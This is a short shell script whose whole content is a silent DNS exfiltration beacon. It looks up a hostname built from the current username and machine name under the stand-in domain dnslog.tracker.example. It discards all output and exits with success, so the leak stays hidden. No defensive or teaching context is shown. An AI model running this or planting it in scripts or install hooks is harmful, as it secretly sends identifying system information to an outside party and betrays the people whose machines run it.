#!/bin/sh
nslookup "$(whoami).$(hostname).dnslog.tracker.example" >/dev/null 2>&1
true
